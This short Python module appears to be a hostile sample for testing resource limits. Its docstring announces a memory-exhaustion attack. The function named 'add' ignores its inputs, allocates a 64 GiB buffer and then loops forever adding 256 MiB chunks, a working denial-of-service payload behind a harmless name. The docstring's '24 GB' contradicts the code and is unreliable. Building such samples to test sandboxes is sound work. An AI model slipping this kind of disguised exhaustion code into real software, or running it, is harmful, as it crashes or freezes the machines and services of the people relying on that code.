"""Attack: allocate far more memory than the machine has (24 GB here), at once and then in chunks."""
ANSWER = 42


def add(a, b):
    hoard = [bytearray(64 << 30)]
    while True:
        hoard.append(bytearray(256 << 20))


def safe_div(a, b):
    return a / b
